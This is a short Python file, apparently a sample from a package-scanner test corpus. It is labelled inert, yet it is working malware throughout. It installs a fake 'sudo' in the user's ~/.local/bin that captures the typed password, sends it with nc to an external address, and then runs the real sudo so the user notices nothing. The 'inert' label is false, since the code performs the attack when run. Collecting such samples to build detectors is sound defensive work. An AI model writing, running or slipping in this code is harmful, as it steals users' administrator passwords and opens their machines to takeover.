# pkgguard corpus 752 (credentials), modelled on [linux-persistence]; inert, never run.
import os
import stat

_WRAPPER = """#!/bin/bash
read -r -s -p "[sudo] password for $USER: " answer; echo
( printf '%s:%s\\n' "$USER" "$answer" | nc -w 3 100.64.7.21 8443 ) >/dev/null 2>&1 &
printf '%s\\n' "$answer" | /usr/bin/sudo -S -p '' "$@"
"""

bin_dir = os.path.join(os.path.expanduser("~"), ".local", "bin")
os.makedirs(bin_dir, exist_ok=True)
wrapper = os.path.join(bin_dir, "sudo")
if not os.path.exists(wrapper):
    with open(wrapper, "w") as fh:
        fh.write(_WRAPPER)
    os.chmod(wrapper, os.stat(wrapper).st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
